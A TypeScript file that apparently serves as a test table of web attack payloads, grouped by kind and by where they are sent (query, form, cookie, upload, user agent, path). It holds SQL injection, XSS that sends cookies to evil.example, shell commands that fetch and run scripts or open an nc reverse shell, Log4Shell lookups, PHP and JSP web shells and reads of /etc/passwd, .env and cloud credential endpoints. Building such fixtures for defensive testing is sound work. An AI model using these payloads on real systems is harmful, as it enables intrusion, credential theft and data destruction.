// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what is sent
/** A payload and what it tries; the places it is put in are the table's own. */
export interface Attack {
  readonly kind: 'sqli' | 'xss' | 'command' | 'path' | 'code' | 'request' | 'nosql' | 'template'
  readonly payload: string
  /** Where such a thing is sent. */
  readonly places: readonly Place[]
}

export type Place = 'query' | 'form' | 'json' | 'graphql' | 'upload' | 'cookie' | 'path' | 'agent'

const INPUTS: readonly Place[] = ['query', 'form', 'json', 'graphql']

const of = (kind: Attack['kind'], payloads: readonly string[], places: readonly Place[] = INPUTS): Attack[] =>
  payloads.map((payload) => ({ kind, payload, places }))

/** From what is published about these attacks (OWASP's testing guide, cheat sheets and common tools), written before it was known what is stopped. */
export const ATTACKS: readonly Attack[] = [
  ...of('sqli', [
    "' OR '1'='1",
    "' OR 1=1-- -",
    "admin'--",
    "1' UNION SELECT username, password FROM users--",
    '1 UNION ALL SELECT NULL,NULL,CONCAT(0x7e,version(),0x7e)#',
    "1'; DROP TABLE orders; --",
    "1' AND SLEEP(5)-- -",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1' AND extractvalue(1,concat(0x7e,(SELECT database())))-- ",
    "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
    '1 OR pg_sleep(5)--',
    "'/**/UNION/**/SELECT/**/1,2,3--",
  ]),
  ...of('xss', [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(document.cookie)>',
    '<svg/onload=fetch("//evil.example/"+document.cookie)>',
    "javascript:alert('x')//",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<body onpageshow=alert(1)>',
    "'-alert(1)-'<script src=//evil.example></script>",
    '<details open ontoggle=confirm(1)>',
    '<input autofocus onfocus=eval(atob("YWxlcnQoMSk="))>',
  ]),
  ...of('command', [
    '; cat /etc/passwd',
    '| id; uname -a',
    '$(curl http://evil.example/x.sh | sh)',
    '`wget http://evil.example/x -O /tmp/x`',
    '&& nc -e /bin/sh 198.51.100.7 4444',
    '() { :;}; /bin/bash -c "id"',
    '; powershell -enc SQBFAFgA',
    '| ping -c 10 127.0.0.1 && whoami',
  ]),
  ...of('path', [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fshadow',
    '....//....//etc/passwd',
    'file:///etc/passwd',
    'php://filter/convert.base64-encode/resource=index.php',
    '..\\..\\..\\windows\\win.ini',
    '/proc/self/environ',
  ]),
  ...of('code', [
    '<?php system($_GET["c"]); ?>',
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
    'O:8:"stdClass":1:{s:4:"test";O:10:"PharLoader":0:{}}',
    'require("child_process").execSync("id")',
    "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
    'Runtime.getRuntime().exec("id")',
    '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd="id")}',
  ]),
  ...of('template', [
    '{{7*7}}{{config.__class__.__init__.__globals__}}',
    '<%= system("id") %>',
    '#{T(java.lang.Runtime).getRuntime().exec("id")}',
  ]),
  ...of(
    'request',
    ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'gopher://127.0.0.1:6379/_FLUSHALL'],
    INPUTS,
  ),
  ...of('nosql', ['{"$where":"sleep(5000)"}'], ['query']),
  ...of('nosql', ['/search?q[$ne]=1&password[$gt]='], ['path']),
  ...of(
    'code',
    [
      '<?php echo shell_exec($_POST["x"]); ?>',
      '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    ],
    ['upload'],
  ),
  ...of('sqli', ["x' OR '1'='1' -- -", "1' UNION SELECT password FROM users-- -"], ['cookie']),
  ...of(
    'code',
    [
      '${jndi:ldap://evil.example/a}',
      '() { :; }; /bin/cat /etc/passwd',
      'sqlmap/1.8.2#stable (https://sqlmap.org)',
      'Nikto/2.5.0',
    ],
    ['agent'],
  ),
  ...of(
    'path',
    [
      '/../../../../etc/passwd',
      '/.git/config',
      '/.env',
      '/static/..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/wp-content/plugins/x/../../../wp-config.php',
    ],
    ['path'],
  ),
]
